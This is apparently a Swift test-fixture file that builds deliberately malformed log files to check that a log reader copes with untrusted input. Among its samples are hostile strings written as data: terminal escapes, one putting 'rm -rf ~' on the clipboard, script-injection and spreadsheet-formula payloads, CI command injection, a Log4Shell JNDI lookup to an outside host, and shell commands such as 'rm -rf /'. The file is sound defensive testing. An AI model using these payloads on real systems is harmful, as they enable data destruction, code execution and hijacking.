/// A small file that breaks readers that trust their input.
struct HostileFile {
  let name: String
  let bytes: [UInt8]

  init(_ name: String, _ bytes: [UInt8]) {
    self.name = name
    self.bytes = bytes
  }

  init(_ name: String, _ text: String) { self.init(name, Array(text.utf8)) }

  static let all =
    brokenBytes + brokenLines + [
      HostileFile("terminal-escapes.log", terminalEscapes), HostileFile("markup.log", markup),
      HostileFile("json-edges.log", jsonEdges),
      HostileFile("impossible-dates.log", impossibleDates), HostileFile("backtracking.log", backtracking),
      HostileFile("long-field.log", longField),
    ]

  /// One line of 3 MB, which the disk need not carry: it is written compressed.
  static let longLine = HostileFile(
    "long-line.log",
    stamp(0) + "INFO begin " + String(repeating: "0123456789abcdef", count: 187_500) + " end\n" + stamp(1)
      + "INFO the line behind it\n")
}

private func stamp(_ second: Int) -> String { (Moment.morning + second * 1000).iso + " " }

private let brokenBytes = [
  HostileFile(
    "nul-bytes.log",
    stamp(0) + "INFO before\n" + stamp(1) + "INFO nul \0 inside\n\0\0\0\0\n" + stamp(2)
      + "INFO key\0name=\"va\0lue\"\n\0" + stamp(3) + "INFO nul in front\n"),
  HostileFile("invalid-utf8.log", invalidUTF8),
  HostileFile(
    "bom.log",
    [0xef, 0xbb, 0xbf]
      + Array((stamp(0) + "INFO the first line has a byte order mark\n" + stamp(1) + "INFO the second has none\n").utf8)
  ),
  HostileFile(
    "utf-16le.log",
    [0xff, 0xfe] + (stamp(0) + "INFO UTF-16, little endian\r\n").utf16.flatMap { [UInt8($0 & 255), UInt8($0 >> 8)] }),
  HostileFile("all-bytes.log", Array((stamp(0) + "INFO ").utf8) + (0...255).map { UInt8($0) } + Array("\n".utf8)),
]

private let brokenLines = [
  HostileFile(
    "crlf.log",
    stamp(0) + "INFO one\r\n" + stamp(1) + "ERROR two\r\n\tat continued(Line.java:1)\r\n\r\n" + stamp(2)
      + "INFO three\n" + stamp(3) + "INFO four\r\n"),
  HostileFile(
    "lone-cr.log",
    stamp(0) + "INFO progress 10%\rprogress 50%\rprogress 100%\n" + stamp(1) + "INFO old Mac\r" + stamp(2)
      + "INFO no newline in between\r\r\n" + stamp(3) + "INFO end\n"),
  HostileFile("no-last-newline.log", stamp(0) + "INFO one\n" + stamp(1) + "INFO the last line has no end"),
  HostileFile("empty.log", ""),
  HostileFile("only-newlines.log", "\n\n\n\n\n"),
  HostileFile(
    "blank-lines.log",
    "   \t  \n" + stamp(0) + "INFO behind a line of blanks\n \n\t\n" + String(repeating: " ", count: 5000) + "\n"
      + stamp(1) + "INFO end\n          "),
  HostileFile(
    "orphan-continuation.log",
    "\tat com.acme.Lost.head(Lost.java:1)\n\tat com.acme.Lost.tail(Lost.java:2)\n\t... 12 more\n" + stamp(0)
      + "INFO the first record that begins\n"),
  HostileFile(
    "line-separators.log",
    stamp(0) + "INFO a\u{85}b\u{2028}c\u{2029}d\u{0B}e\u{0C}f: one line\n" + stamp(1) + "INFO end\n"),
]

private let invalidUTF8: [UInt8] = {
  let sequences: [(what: String, bytes: [UInt8])] = [
    ("a byte that only continues", [0x80]), ("bytes that never occur", [0xfe, 0xff]), ("overlong slash", [0xc0, 0xaf]),
    ("overlong NUL", [0xc0, 0x80]), ("overlong in three bytes", [0xe0, 0x80, 0xaf]),
    ("a high surrogate", [0xed, 0xa0, 0x80]),
    ("a surrogate pair, as CESU-8", [0xed, 0xa0, 0xbd, 0xed, 0xb8, 0x80]),
    ("above U+10FFFF", [0xf4, 0x90, 0x80, 0x80]),
    ("five bytes", [0xf8, 0x88, 0x80, 0x80, 0x80]), ("two of three bytes", [0xe2, 0x82]),
    ("three of four bytes", [0xf0, 0x9f, 0x98]),
    ("Latin-1", Array("caf".utf8) + [0xe9]),
  ]
  var out = LineWriter(capacity: 4096)
  for (second, sequence) in sequences.enumerated() {
    out.text(stamp(second) + "WARN \(sequence.what) [")
    out.text(sequence.bytes)
    out.line("] valid again: é")
  }
  out.text(stamp(90) + "WARN cut in the middle of a character: ")
  out.text([0xe2, 0x82])
  return out.bytes
}()

private let terminalEscapes =
  stamp(0) + "INFO colour \u{1B}[31mred\u{1B}[0m and \u{1B}[1;5mblink\n" + stamp(1)
  + "WARN title \u{1B}]0;owned\u{07} set\n" + stamp(2)
  + "WARN screen \u{1B}[2J\u{1B}[H cleared\n" + stamp(3)
  + "WARN link \u{1B}]8;;https://evil.example/\u{1B}\\click\u{1B}]8;;\u{1B}\\\n" + stamp(4)
  + "WARN clipboard \u{1B}]52;c;cm0gLXJmIH4=\u{07}\n" + stamp(5)
  + "WARN back\u{08}\u{08}\u{08}\u{08}space and bell \u{07}\n" + stamp(6)
  + "WARN C1 control \u{9B}31m as UTF-8\n" + stamp(7)
  + "WARN right to left \u{202E}gnp.exe\u{202C} and zero width a\u{200B}b\u{FEFF}c\n" + stamp(8)
  + "INFO device query \u{1B}[6n\u{1B}[c\u{1B}P+q544e\u{1B}\\\n"

private let markup =
  stamp(0) + "INFO <script>alert('log')</script><img src=x onerror=alert(1)>\n" + stamp(1)
  + "INFO </textarea></pre><!-- &amp; &lt;b&gt; ]]> <![CDATA[ \n" + stamp(2)
  + "INFO | a table | row | `code` **bold** [link](javascript:alert(1)) @acme/everyone #1\n" + stamp(3)
  + "INFO ```\n::error file=app.swift,line=1::a command of the CI\n::set-output name=token::1\n##vso[task.setvariable variable=x]y\n::stop-commands::x\n"
  + stamp(4)
  + "INFO =cmd|' /C calc'!A0 and \"quoted\", 'apostrophe', back\\slash, tab\there\n" + stamp(5)
  + "INFO ${jndi:ldap://198.51.100.66/a} {{7*7}} %s%n %{NAME:field} $(reboot) `reboot` ; rm -rf /\n" + stamp(6)
  + "INFO {\"looks\": \"like JSON\n"

private let jsonEdges =
  #"{"level":"info","msg":"a lone surrogate \ud800 and a pair \ud83d\ude00 and \u0000 and \/"}"# + "\n"
  + #"{"level":"info","level":"error","msg":"one key twice"}"# + "\n"
  + #"{"n":1e999,"m":-0,"big":123456789012345678901234567890,"f":0.1000000000000000055511151231257827,"msg":"numbers"}"#
  + "\n" + #"{"msg":"cut off","open":{"a":[1,2"# + "\n"
  + "{\"msg\":\"a control character \u{1} as it is\"}\n" + #"{"msg":"trailing comma",}"# + "\n"
  + #"{"":"an empty key","msg":"","nested":{"a":{"b":null}},"list":[1,"two",[3]]}"# + "\n"
  + "[1,2,3]\n\"text\"\n42\nnull\n{}\n"
  + #"{"msg":"behind the object"} more"# + "\n" + "{\"deep\":" + String(repeating: "[", count: 2000)
  + String(repeating: "]", count: 2000) + ",\"msg\":\"2,000 levels\"}\n" + "{\"msg\":\"too deep\",\"deep\":"
  + String(repeating: "{\"a\":", count: 20_000) + "\n"

private let impossibleDates = """
  2026-02-30T06:00:00Z INFO a day that does not exist
  2025-02-29T06:00:00Z INFO no leap year
  2024-02-29T23:59:60Z INFO a leap day, a leap second
  2026-13-01T00:00:00Z INFO month 13
  2026-03-02T24:00:00Z INFO hour 24
  2026-03-02T06:61:00Z INFO minute 61
  0000-00-00T00:00:00Z INFO nothing but zeros
  9999-12-31T23:59:59.999999999999Z INFO the end of years, twelve digits of a fraction
  1969-12-31T23:59:59Z INFO before the epoch
  2026-03-02T06:00:00+25:00 INFO a zone that does not exist
  2026-03-29T02:30:00 INFO an hour that clocks leave out in Berlin
  Feb 30 06:00:00 host app: syslog on a day that does not exist
  Feb 29 06:00:00 host app: a leap day without a year

  """

/// What makes nested repetitions try every split.
private let backtracking =
  stamp(0) + "INFO " + String(repeating: "a", count: 40) + "!\n" + stamp(1) + "INFO "
  + String(repeating: "a+", count: 3000) + "://\n" + stamp(2) + "INFO " + String(repeating: "1.", count: 2000) + "x\n"
  + stamp(3) + "INFO "
  + String(repeating: "\" \"", count: 2000) + "\n" + stamp(4) + "INFO " + String(repeating: "key=value ", count: 500)
  + "key=\"\n"

private let longField =
  "time=2026-03-02T06:00:00.000Z level=info msg=\"long value\" payload=\"" + String(repeating: "x", count: 100_000)
  + "\" end=yes\n" + "time=2026-03-02T06:00:01.000Z level=info msg=\"long key\" "
  + String(repeating: "k", count: 5000) + "=v\n" + "time=2026-03-02T06:00:02.000Z level=info msg=\"many keys\""
  + (0..<2000).map { " k\($0)=\($0)" }.joined() + "\n" + "203.0.113.7 - - [02/Mar/2026:06:00:03 +0000] \"GET /?"
  + String(repeating: "q=%2e&", count: 8000) + " HTTP/1.1\" 414 177 \"-\" \"-\"\n"
